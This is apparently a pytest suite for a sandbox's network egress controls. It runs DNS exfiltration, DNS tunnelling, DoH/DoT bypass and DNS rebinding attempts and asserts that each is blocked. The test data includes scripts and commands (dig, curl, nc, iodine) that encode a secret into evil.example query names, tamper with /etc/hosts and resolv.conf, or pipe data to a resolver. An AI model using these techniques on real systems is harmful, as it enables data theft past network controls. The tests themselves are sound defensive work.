"""Attacks A5-A7 of the research on the way out: what names carry, who else resolves them, and where they lead.

Nothing is forwarded: a name that is not allowed leaves no packet, whoever is asked, however. What an allowed wildcard
carries is counted at the far end's name server.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import random
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress

import pytest

from corral.actions import Endpoint, Kind
from corral.sandbox.box import Sandbox
from tests.contain.attacks import users
from tests.contain.conftest import MakeBox
from tests.contain.gateway_attacks import (
    EVIL,
    NOTHING_ALLOWS,
    RESOLVER,
    RESOLVER6,
    WEB,
    attack,
    nothing_arrived,
    refused,
    requests_refused,
    statuses,
    tool,
)
from tests.contain.gateway_boxes import policy_of, refusals, shell
from tests.internet.places import REBINDING, TUNNEL_ZONE
from tests.internet.world import Internet

# ---- A5: data in labels, with nobody allowed to answer ----

SECRET = base64.b32encode(b"the secret of the workspace").decode().rstrip("=").lower()
NXDOMAIN = 3

LABELS = r"""
names = [b"%d.%s.evil.example" % (n, ARGS[0].encode()) for n in range(8)]
kinds = {"A": 1, "NS": 2, "CNAME": 5, "SOA": 6, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "KEY": 25, "AAAA": 28,
    "SRV": 33, "NAPTR": 35, "SVCB": 64, "HTTPS": 65, "PRIVATE": 65399, "AXFR": 252, "ANY": 255}
answers = {}
def datagram(host, data, family=socket.AF_INET, connected=True):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        if connected:
            s.connect((host, 53)); s.send(data); return rcode(s.recv(4096))
        s.sendto(data, (host, 53))
        answer, sender = s.recvfrom(4096)
        return rcode(answer) if sender[0] == host else "from " + sender[0]
def stream(host, *queries):
    with socket.create_connection((host, 53), timeout=5) as s:
        s.sendall(b"".join(len(data).to_bytes(2, "big") + data for data in queries))
        found = []
        for _ in queries:
            size = int.from_bytes(s.recv(2, socket.MSG_WAITALL), "big")
            found.append(rcode(s.recv(size, socket.MSG_WAITALL)))
        return found[0] if len(set(found)) == 1 else found
def one(what, make):
    try:
        answers[what] = make()
    except OSError as error:
        answers[what] = failure(error)
for host in ARGS[1:]:
    six = socket.AF_INET6 if ":" in host else socket.AF_INET
    for kind, number in kinds.items():
        one(f"{kind} to {host}", lambda: datagram(host, query(names[0], number), six))
    one(f"unconnected to {host}", lambda: datagram(host, query(names[1]), six, False))
    one(f"TCP to {host}", lambda: stream(host, query(names[2])))
    one(f"many by TCP to {host}", lambda: stream(host, *(query(name, number=n) for n, name in enumerate(names))))
mapped = "::ffff:" + ARGS[2]
one("mapped", lambda: datagram(mapped, query(names[3]), socket.AF_INET6))
one("case", lambda: datagram(ARGS[1], query(names[4].upper())))
edns = b"\0\0\x29\x10\0\0\0\0\0\0\x24\0\x0a\0\x20" + ARGS[0].encode()[:32]
additional = query(names[5])[:10] + b"\0\1" + query(names[5])[12:] + edns
one("EDNS", lambda: datagram(ARGS[1], additional))
one("local name", lambda: datagram(ARGS[1], query(ARGS[0].encode())))
one("chaos", lambda: datagram(ARGS[1], query(names[6])[:-2] + b"\0\3"))
tell(answers)
"""


async def test_labels_of_queries(make_box: MakeBox, internet: Internet) -> None:
    """A5: every type, UDP and TCP, to the gateway's own resolver and to those that a program knows by heart."""
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    heard = await attack(box, LABELS, SECRET, "198.18.0.53", RESOLVER, "203.0.113.53", RESOLVER6)
    assert {answer for what, answer in heard.items() if what not in ("chaos", "EDNS")} <= {NXDOMAIN, 4, 5}, heard
    assert set(heard.values()) <= {1, NXDOMAIN, 4, 5}
    assert heard[f"TXT to {RESOLVER}"] == heard[f"many by TCP to {RESOLVER6}"] == heard["mapped"] == NXDOMAIN
    nothing_arrived(internet)
    for number in (0, 1, 2, 7):
        refused(box, Kind.NET_RESOLVE, f"{number}.{SECRET}.evil.example", NOTHING_ALLOWS)
    assert all(d.action.origin.process is not None for d in refusals(box, Kind.NET_RESOLVE))


CLIENTS = {
    "dig": f"dig +time=2 +tries=1 @{RESOLVER} {SECRET}.evil.example TXT",
    "dig-null": f"dig +time=2 +tries=1 @{RESOLVER} {SECRET}.evil.example NULL",
    "dig-tcp": f"dig +tcp +time=2 +tries=1 @{RESOLVER} {SECRET}.evil.example",
    "dig-6": f"dig +time=2 +tries=1 @{RESOLVER6} {SECRET}.evil.example",
    "dig-trace": f"dig +time=2 +tries=1 +norecurse @203.0.113.53 {SECRET}.tunnel.test TXT",
    "nslookup": f"nslookup -timeout=2 -retry=1 {SECRET}.evil.example {RESOLVER}",
    "host": f"host -W 2 {SECRET}.evil.example {RESOLVER}",
    "getent": f"getent ahosts {SECRET}.evil.example",
    "curl": f"curl -sS -m 5 http://{SECRET}.evil.example/",
    "node": f'node -e \'const d=require("dns"); d.setServers(["{RESOLVER}"]);'
    f' d.resolveTxt("{SECRET}.evil.example", e => process.exit(e && e.code === "ENOTFOUND" ? 9 : 0))\'',
    "python3": f"python3 -c 'import socket; socket.gethostbyname(\"{SECRET}.evil.example\")'",
    "ssh": f"ssh -o BatchMode=yes -o ConnectTimeout=5 {SECRET}.evil.example true",
    "git": f"git ls-remote https://{SECRET}.evil.example/x",
}


async def test_labels_by_real_clients(make_box: MakeBox, internet: Internet) -> None:
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    found = await box.exec(["sh", "-c", f"command -v {' '.join({name.partition('-')[0] for name in CLIENTS})}"])
    there = {path.rpartition("/")[2] for path in found.text.split()}

    async def run(name: str, command: str) -> None:
        result = await box.exec(["sh", "-c", command], timeout=20)
        # dig succeeds where it is told that there is no such name.
        assert result.exit_code != 0 or "NXDOMAIN" in result.text, (name, result)

    await asyncio.gather(*(run(name, text) for name, text in CLIENTS.items() if name.partition("-")[0] in there))
    nothing_arrived(internet)
    refused(box, Kind.NET_RESOLVE, f"{SECRET}.evil.example", NOTHING_ALLOWS)


async def test_iodine_itself(make_box: MakeBox, internet: Internet) -> None:
    """The client of the best known DNS tunnel: it gets no device, as agent or as root, and sends nothing."""
    program = tool("iodine")
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    for user in users(box):
        for server in ("", RESOLVER):
            command = f"timeout 8 {program} -f -P password {server} {TUNNEL_ZONE}"
            result = await box.exec(["sh", "-c", command], timeout=15, user=user)
            assert result.exit_code in (1, 2), result
            assert "tun" in (text := result.stderr.decode()) or "Run as root" in text, result
    nothing_arrived(internet)


IODINE = r"""
# iodine's handshake: version (V, NULL query), login, then upstream data in base32 below the zone.
answers = []
def b32(data):
    import base64
    return base64.b32encode(data).decode().rstrip("=").lower()
zone = ARGS[1]
names = ["vaaaakaqk5e", "l" + b32(os.urandom(17)), "z" + b32(b"codec"), "s" + b32(b"raw")]
names += ["0" + b32(os.urandom(34))[:60] + "." + b32(os.urandom(34))[:60] for _ in range(20)]
for number, name in enumerate(names):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(query(f"{name}.{zone}".encode(), 10, number), (ARGS[0], 53))
        answer = s.recv(4096)
        answers.append([rcode(answer), int.from_bytes(answer[6:8], "big")])
tell(answers)
"""


@pytest.mark.parametrize("allowed", [False, True])
async def test_a_tunnel_s_handshake_gets_no_data_back(make_box: MakeBox, internet: Internet, allowed: bool) -> None:
    """NULL and TXT answers do not exist, even below an allowed zone: nothing is asked outside for a query."""
    zone = f", '*.{TUNNEL_ZONE}:80'" if allowed else ""
    box = await make_box(policy=policy_of(f"allow: [web.test:80{zone}]"))
    internet.clear()
    heard = await attack(box, IODINE, RESOLVER, TUNNEL_ZONE)
    assert not any(count for _, count in heard), heard
    assert NXDOMAIN in {code for code, _ in heard}
    nothing_arrived(internet)


# ---- A5: a tunnel through an allowed wildcard ----

# What a name carries leaves when it is dialled: each is resolved, connected to, and asked for something.
TUNNEL = r"""
import concurrent.futures
def one(name):
    try:
        with socket.create_connection((name, 80), timeout=8) as s:
            s.sendall(b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % name.encode())
            s.settimeout(0.15)
            return heard(s, 0.15)[:12]
    except OSError as error:
        return failure(error)
with concurrent.futures.ThreadPoolExecutor(16) as pool:
    tell(list(pool.map(one, ARGS)))
"""


def _encoded(data: bytes) -> list[str]:
    """As iodine: as much as a name holds, in base32."""
    text = base64.b32encode(data).decode().rstrip("=").lower()
    pieces = [text[at : at + 120] for at in range(0, len(text), 120)]
    return [f"{piece[:60]}.{piece[60:]}".strip(".") for piece in pieces]


def _hexadecimal(data: bytes) -> list[str]:
    """As dnscat2: short names of hexadecimal."""
    text = data.hex()
    return [text[at : at + 22] for at in range(0, len(text), 22)]


def _words(data: bytes) -> list[str]:
    """Each byte a word, three words a name: nothing looks encoded."""
    draw = random.Random(1)
    syllables = [a + b for a in "bcdfglmnprstvwk" for b in "aeiou"]
    words = [f"{draw.choice(syllables)}{draw.choice(syllables)}{number % 10 or 'n'}" for number in range(256)]
    return ["-".join(words[byte] for byte in data[at : at + 3]) + f".n{at // 3}" for at in range(0, len(data), 3)]


def _tiny(data: bytes) -> list[str]:
    """A byte a name, each with its place."""
    return [f"{byte:02x}{at}" for at, byte in enumerate(data)]


@pytest.mark.parametrize("encoding", [_encoded, _hexadecimal, _words, _tiny], ids=lambda f: f.__name__.strip("_"))
async def test_a_tunnel_through_an_allowed_wildcard(
    make_box: MakeBox, internet: Internet, encoding: Callable[[bytes], list[str]]
) -> None:
    """A5: stopped within 2 KiB, counted in the far end's records of queries."""
    data = b"".join(hashlib.sha512(bytes((number, number ^ 85))).digest() for number in range(64))  # 4 KiB
    names = [f"{below}.{TUNNEL_ZONE}" for below in encoding(data)][:500]
    assert sum(len(name) for name in names) > 4096
    box = await make_box(policy=policy_of(f"allow: ['*.{TUNNEL_ZONE}:80']"))
    internet.clear()
    heard = await attack(box, TUNNEL, *names, timeout=60)
    assert heard.count("gaierror") > len(heard) // 2, heard
    carried = {query.name for query in internet.records(service="dns")}
    assert carried <= set(names) and len(carried) < len(names)
    told = [d for d in refusals(box, Kind.NET_RESOLVE) if isinstance(d.action.subject, Endpoint)]
    assert told and all(d.rule == "gateway.dns" and f"below {TUNNEL_ZONE}" in d.reason for d in told), told[0]
    # What is left of the budget is left for other encodings, and another process, but no more.
    others = [f"{below}.{TUNNEL_ZONE}" for below in (*_tiny(data[:99]), *_hexadecimal(data[:400]), *_words(data[:99]))]
    await attack(box, TUNNEL, *others, timeout=60)
    assert sum(len(query.name) - len(TUNNEL_ZONE) - 1 for query in internet.records(service="dns")) <= 2048


async def test_asking_again_is_no_channel_either(make_box: MakeBox, internet: Internet) -> None:
    """Which of the known names is asked for carries data too; it leaves once, and then from memory."""
    box = await make_box(policy=policy_of(f"allow: ['*.{TUNNEL_ZONE}:80']"))
    internet.clear()
    names = [f"a{number}.{TUNNEL_ZONE}" for number in range(8)]
    await attack(box, TUNNEL, *names * 20, timeout=60)
    assert len(internet.records(service="dns")) <= 2 * len(names)


# ---- A6: other resolvers ----


async def test_dns_over_https_and_tls(make_box: MakeBox, internet: Internet) -> None:
    """A6: at names and addresses that nobody allowed, and what their answers would be good for."""
    box = await make_box(policy=policy_of(WEB))
    internet.clear()
    commands = {
        "doh-literal": "curl -sS -k -m 8 --doh-insecure --doh-url https://203.0.113.53/dns-query https://evil.example/",
        "doh-named": "curl -sS -k -m 8 --doh-insecure --doh-url https://dns.test/dns-query https://evil.example/",
        "dot-literal": "openssl s_client -connect 203.0.113.53:853 </dev/null",
        "dot-named": "openssl s_client -connect dns.test:853 </dev/null",
        "dot-on-53": f"openssl s_client -connect {RESOLVER}:53 </dev/null",
        "answer": f"curl -sS -k -m 8 --resolve evil.example:443:{EVIL} https://evil.example/",
        "hosts": f"cp /etc/hosts /tmp/h && echo '{EVIL} web.test' >>/etc/hosts; curl -sS -k -m 8 https://{EVIL}/",
        "resolv.conf": f"echo nameserver {RESOLVER} >/etc/resolv.conf; getent hosts {SECRET}.evil.example",
        "plain-on-853": f"echo stolen | nc -w 3 {RESOLVER} 853",
        "quic": "curl -sS -m 8 --http3-only https://dns.test/dns-query",
    }
    for name, command in commands.items():
        result = await shell(box, command)
        assert result.exit_code != 0, (name, result)
    nothing_arrived(internet)
    refused(box, Kind.NET_RESOLVE, "dns.test", NOTHING_ALLOWS)
    for target in ("203.0.113.53:443", "203.0.113.53:853", f"{EVIL}:443"):
        refused(box, Kind.NET_CONNECT, target, NOTHING_ALLOWS)
    assert f"{SECRET}.evil.example" in {
        str(d.action.subject).partition(":")[0] for d in refusals(box, Kind.NET_RESOLVE)
    }


async def test_dns_over_https_at_an_allowed_host(
    make_box: MakeBox, internet: Internet, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A6: an allowed host that answers queries is stopped by rules for its requests; its answers help nobody."""
    monkeypatch.setenv("SSL_CERT_FILE", str(internet.ca_file))
    rules = "allow: [{name: web.test, port: 443, requests: ['GET /echo', 'GET /']}]"
    box = await make_box(policy=policy_of(rules))
    internet.clear()
    heard = await shell(box, "curl -sS -m 8 --doh-url https://web.test/dns-query https://evil.example/")
    assert heard.exit_code != 0
    heard = await shell(box, "curl -sS -m 8 -i https://web.test/dns-query?dns=AAABAAABAAAAAAAABGV2aWwHZXhhbXBsZQ")
    assert statuses(heard.text) == [403]
    nothing_arrived(internet, names=["web.test"])
    assert {method for method, *_ in requests_refused(box)} >= {"GET", "POST"}
    assert "/echo" in (await shell(box, "curl -sS -m 8 https://web.test/echo")).text


# ---- A7: names that lead back ----


class Canary:
    """A listener on the host's own addresses, which says what came."""

    def __init__(self) -> None:
        self.came: list[tuple[str, bytes]] = []
        self._socket = socket.socket(socket.AF_INET6)
        self._socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        self._socket.bind(("::", 0))
        self._socket.listen(64)
        self.port = int(self._socket.getsockname()[1])
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                sock, (host, *_) = self._socket.accept()
                with sock, suppress(OSError):
                    sock.settimeout(1)
                    self.came.append((host, sock.recv(100)))

    def close(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(5)


@pytest.fixture
def canary() -> Iterator[Canary]:
    """On a port of its own."""
    bird = Canary()
    try:
        with socket.create_connection(("127.0.0.1", bird.port)) as visitor:  # it would show
            visitor.sendall(b"host")
        for _ in range(100):
            if bird.came:
                break
            threading.Event().wait(0.02)
        assert bird.came.pop()[1] == b"host"
        yield bird
    finally:
        bird.close()


def _forget(box: Sandbox) -> None:
    """What was resolved before; the next connection asks again."""
    egress = box.core.supervision.egress
    assert egress is not None
    egress.resolver._cache.clear()


LEAD_BACK = ["loopback.test", "mapped.test", "nat64.test", "unspecified.test", "mixed.test", "host.test"]


async def test_names_that_lead_to_the_host(make_box: MakeBox, internet: Internet, canary: Canary) -> None:
    """A7: a service on the host's loopback and on its own address, by every name that means it; the port is allowed."""
    names = ", ".join(f"'{name}:{canary.port}'" for name in LEAD_BACK)
    box = await make_box(policy=policy_of(f"allow: [{names}]"))
    internet.clear()

    async def fetch(name: str) -> None:
        heard = await box.exec(["curl", "-sS", "-m", "10", "-i", f"http://{name}:{canary.port}/"], timeout=20)
        assert statuses(heard.text) in ([403], [502]), (name, heard)

    await asyncio.gather(*map(fetch, LEAD_BACK))
    assert canary.came == []
    seen = [d for d in refusals(box, Kind.NET_CONNECT) if getattr(d.action.subject, "protected", False)]
    assert {getattr(d.action.subject, "name", "") for d in seen} == set(LEAD_BACK)


async def test_rebinding(make_box: MakeBox, internet: Internet, canary: Canary) -> None:
    """A7: the name is honest at first. Each connection is decided by the address that it is about to go to."""
    box = await make_box(policy=policy_of(f"allow: ['{REBINDING}:{canary.port}', '{REBINDING}:80']"))
    internet.clear()
    for _ in range(8):
        _forget(box)
        for port in (80, canary.port):
            heard = await box.exec(["curl", "-sS", "-m", "8", "-i", f"http://{REBINDING}:{port}/"], timeout=20)
            assert statuses(heard.text) in ([200], [403], [502]), heard
        if any(getattr(d.action.subject, "protected", False) for d in refusals(box, Kind.NET_CONNECT)):
            break
    refusal = next(d for d in refusals(box, Kind.NET_CONNECT) if getattr(d.action.subject, "protected", False))
    assert str(getattr(refusal.action.subject, "address", "")) == "127.0.0.1"
    assert len({arrival.name for arrival in internet.records(service="dns")}) == 1
    assert canary.came == []


async def test_rebinding_on_a_connection_that_is_kept(make_box: MakeBox, internet: Internet, canary: Canary) -> None:
    """A7: a browser's trick, many connections at once while the name changes."""
    box = await make_box(policy=policy_of(f"allow: ['{REBINDING}:{canary.port}']"))
    internet.clear()
    code = f"""
import concurrent.futures
def one(_):
    return say({REBINDING!r}, {canary.port}, b"GET / HTTP/1.1\\r\\nHost: {REBINDING}:{canary.port}\\r\\n\\r\\n")[:12]
with concurrent.futures.ThreadPoolExecutor(12) as pool:
    tell(list(pool.map(one, range(36))))
"""
    running = asyncio.create_task(attack(box, code))
    while not running.done():
        _forget(box)
        await asyncio.sleep(0.005)
    heard = await running
    assert {answer[:10] for answer in heard} <= {"HTTP/1.1 4", "HTTP/1.1 5"}, heard
    assert canary.came == []


async def test_aliases_are_judged_by_where_they_end(make_box: MakeBox, internet: Internet) -> None:
    """A name that the policy allows may be an alias of one that it does not: that is its owner's affair, as any
    address is. What is said there is still said to the allowed name."""
    box = await make_box(policy=policy_of("allow: ['cname-evil.test:80', 'cname-loop.test:80']"))
    internet.clear()
    heard = (await shell(box, "curl -sS -m 8 -i http://cname-loop.test/")).text
    assert statuses(heard) == [502]
    heard = (await shell(box, "curl -sS -m 3 -i -H 'Host: evil.example' http://cname-evil.test/")).text
    assert [status // 100 for status in statuses(heard)] == [4]
    nothing_arrived(internet, names=["cname-evil.test", "cname-loop.test", "evil.example"])


async def test_an_answer_with_strangers_in_it(make_box: MakeBox, internet: Internet) -> None:
    """A poisoned answer gives an address to no other name."""
    box = await make_box(policy=policy_of("allow: ['stray-records.test:80', 'bank.example:80']"))
    internet.clear()
    await shell(box, "curl -sS -m 8 http://stray-records.test/")
    await shell(box, "curl -sS -m 8 http://bank.example/")
    assert internet.arrived(EVIL) == 0
